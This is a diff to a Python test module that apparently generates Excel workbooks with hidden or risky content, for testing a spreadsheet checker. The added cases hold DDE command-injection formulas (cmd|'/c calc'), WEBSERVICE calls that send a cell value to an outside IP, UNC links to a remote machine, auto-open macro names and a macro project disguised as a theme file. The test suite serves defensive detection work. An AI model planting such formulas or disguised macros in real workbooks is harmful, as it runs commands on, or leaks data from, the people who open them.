@@ -409,6 +409,150 @@ def row_of_no_height(good: bytes) -> bytes:
     return changed(good, TASKS, lambda part: re.sub(rb'<row r="7"[^>]*?( ht="\d+")?>', b'<row r="7" ht="0" customHeight="1">', part, count=1))
 
 
+COVER, RELATIONSHIPS = "xl/worksheets/sheet1.xml", "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def related(good: bytes, kind: str, target: str, content: bytes = b"", *, mode: str = "") -> bytes:
+    """The workbook with one more part, which the sheet of the tasks has a relationship to."""
+    told = f'<Relationships><Relationship Id="rId99" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/></Relationships>'
+    more = {} if mode else {target.replace("../", "xl/"): content}
+    return with_members(good, {"xl/worksheets/_rels/sheet2.xml.rels": told.encode()} | more)
+
+
+def behind_the_cells(good: bytes, part: str, markup: str) -> bytes:
+    return changed(good, part, lambda p: p.replace(b"</sheetData>", b"</sheetData>" + markup.encode(), 1))
+
+
+def first_formula(good: bytes, part: str, formula: str) -> bytes:
+    return changed(good, part, lambda p: re.sub(rb"<f>[^<]*</f>", f"<f>{formula}</f>".encode(), p, count=1))
+
+
+def named(good: bytes, **names: str) -> bytes:
+    told = "".join(f'<definedName name="{name}">{text}</definedName>' for name, text in names.items()).encode()
+    return changed(good, "xl/workbook.xml", lambda p: p.replace(b"</definedNames>", told + b"</definedNames>"))
+
+
+@kind
+def text_box(good: bytes) -> bytes:
+    shape = '<xdr:sp><xdr:txBody><a:p><a:r><a:t>请按此</a:t></a:r></a:p><a:p><a:r><a:t>更正</a:t></a:r></a:p></xdr:txBody></xdr:sp>'
+    drawing = f'<xdr:wsDr xmlns:xdr="x" xmlns:a="a"><xdr:twoCellAnchor>{shape}</xdr:twoCellAnchor></xdr:wsDr>'
+    return related(good, "drawing", "../drawings/drawing1.xml", drawing.encode())
+
+
+@kind
+def button_with_a_macro(good: bytes) -> bytes:
+    drawing = '<xdr:wsDr xmlns:xdr="x"><xdr:oneCellAnchor><xdr:sp macro="[0]!Send"/></xdr:oneCellAnchor></xdr:wsDr>'
+    return related(good, "drawing", "../drawings/drawing1.xml", drawing.encode())
+
+
+@kind
+def old_text_box(good: bytes) -> bytes:
+    note = '<v:shape><v:textbox>批注</v:textbox><x:ClientData ObjectType="Note"/></v:shape>'
+    drawing = f'<xml>{note}<v:rect><v:textbox><font>另有<br>说明</font></v:textbox><x:ClientData ObjectType="Rect"></x:ClientData></v:rect></xml>'
+    return related(good, "vmlDrawing", "../drawings/vmlDrawing1.vml", drawing.encode())
+
+
+@kind
+def comment_with_an_answer(good: bytes) -> bytes:
+    told = ''.join(f'<threadedComment ref="A6"><text>{text}</text></threadedComment>' for text in ("这项报多了", "已核"))
+    return related(good, "threadedComment", "../threadedComments/threadedComment1.xml", f"<ThreadedComments>{told}</ThreadedComments>".encode())
+
+
+@kind
+def words_in_the_page_head(good: bytes) -> bytes:
+    told = '<headerFooter><oddHeader>&amp;L&amp;"宋体,加粗"&amp;14本表以口头报告为准&amp;R&amp;D</oddHeader>'
+    told += '<evenFooter>第 &amp;P 页，共 &amp;N 页</evenFooter>'
+    return changed(good, TASKS, lambda p: p.replace(b"<headerFooter>", told.encode(), 1))
+
+
+@kind
+def web_in_a_live_cell(good: bytes) -> bytes:
+    return first_formula(good, TASKS, 'WEBSERVICE("http://198.51.100.7/?"&amp;A6)')
+
+
+@kind
+def program_on_the_cover(good: bytes) -> bytes:
+    return first_formula(good, COVER, "cmd|'/c calc'!A0")
+
+
+@kind
+def web_in_a_conditional_format(good: bytes) -> bytes:
+    rule = '<cfRule type="expression" priority="99"><formula>LEN(WEBSERVICE("http://198.51.100.7"))&gt;0</formula></cfRule>'
+    return behind_the_cells(good, TASKS, f'<conditionalFormatting sqref="A6">{rule}</conditionalFormatting>')
+
+
+@kind
+def program_in_a_validation(good: bytes) -> bytes:
+    later = "http://schemas.microsoft.com/office/excel/2006/main"
+    rule = f"<x14:dataValidation><x14:formula1><xm:f xmlns:xm='{later}'>cmd|'/c calc'!A0</xm:f></x14:formula1></x14:dataValidation>"
+    return behind_the_cells(good, TASKS, f"<extLst xmlns:x14='x'><ext>{rule}</ext></extLst>")
+
+
+@kind
+def name_that_starts_a_macro(good: bytes) -> bytes:
+    return named(good, **{"AUTO_open": "Sheet1!$A$1", "_xlnm.Auto_Close": "Sheet1!$A$1"})
+
+
+@kind
+def name_that_asks_a_program(good: bytes) -> bytes:
+    return named(good, rate="cmd|'/c calc'!A0")
+
+
+@kind
+def names_of_another_workbook(good: bytes) -> bytes:
+    return named(good, rate="[1]Sheet1!$A$1", share="'\\\\198.51.100.7\\d\\a.xlsx'!x")
+
+
+@kind
+def entry_from_another_machine(good: bytes) -> bytes:
+    return cell_written(good, "C6", rb"<c r='C6'><f>'\\198.51.100.7\d\a.xlsx'!rate</f><v>5</v></c>".replace(b"r='C6'", b'r="C6"'))
+
+
+@kind
+def hyperlink_to_another_machine(good: bytes) -> bytes:
+    return related(good, "hyperlink", r"\\198.51.100.7\d\a.xlsx", mode=' TargetMode="External"')
+
+
+@kind
+def hyperlink_to_the_web(good: bytes) -> bytes:
+    return related(good, "hyperlink", "https://www.gov.cn/", mode=' TargetMode="External"')
+
+
+@kind
+def link_to_a_program(good: bytes) -> bytes:
+    return with_members(good, {"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'})
+
+
+@kind
+def macros_by_another_name(good: bytes) -> bytes:
+    return related(good, "vbaProject", "../theme/theme9.bin", _OLE)
+
+
+@kind
+def form_control(good: bytes) -> bytes:
+    return with_members(good, {"xl/ctrlProps/ctrlProp1.xml": b"<formControlPr/>"})
+
+
+@kind
+def query_to_the_web(good: bytes) -> bytes:
+    return with_members(good, {"customXml/item1.xml": b"<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>AAA</DataMashup>"})
+
+
+@kind
+def chart(good: bytes) -> bytes:
+    return with_members(good, {"xl/charts/chart1.xml": b"<chartSpace/>", "xl/charts/style1.xml": b"<style/>"})
+
+
+@kind
+def row_of_hardly_any_height(good: bytes) -> bytes:
+    return changed(good, TASKS, lambda part: re.sub(rb'<row r="7"[^>]*?( ht="\d+")?>', b'<row r="7" ht="0.05" customHeight="1">', part, count=1))
+
+
+@kind
+def column_of_hardly_any_width(good: bytes) -> bytes:
+    return changed(good, TASKS, lambda part: re.sub(rb'<col min="1" max="1" width="[^"]*"', b'<col min="1" max="1" width="0.05"', part, count=1))
+
+
 @kind
 def cell_twice(good: bytes) -> bytes:
     return changed(good, TASKS, lambda part: re.sub(rb'(<c r="C6"[^>]*>.*?</c>)', rb'\1<c r="C6"><v>99</v></c>', part, count=1))
